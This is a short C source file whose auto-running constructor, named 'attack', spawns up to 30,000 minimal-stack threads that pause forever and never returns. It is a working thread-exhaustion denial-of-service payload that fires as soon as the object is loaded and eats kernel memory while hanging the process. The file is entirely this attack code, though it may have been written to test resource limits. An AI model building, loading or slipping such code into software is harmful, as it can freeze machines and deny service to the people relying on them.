/* Starts threads without end when it is loaded, which use memory of the kernel and almost none of their own, and never returns. */
#include <limits.h>
#include <pthread.h>
#include <stddef.h>
#include <unistd.h>

static void *sleep_on(void *nothing) {
  for (;;) pause();
  return nothing;
}

__attribute__((constructor)) static void attack(void) {
  pthread_attr_t attributes;
  pthread_t thread;
  pthread_attr_init(&attributes);
  pthread_attr_setstacksize(&attributes, PTHREAD_STACK_MIN);
  for (int i = 0; i < 30000; i += 1)
    if (pthread_create(&thread, &attributes, sleep_on, NULL) != 0) usleep(1000);
  for (;;) pause();
}
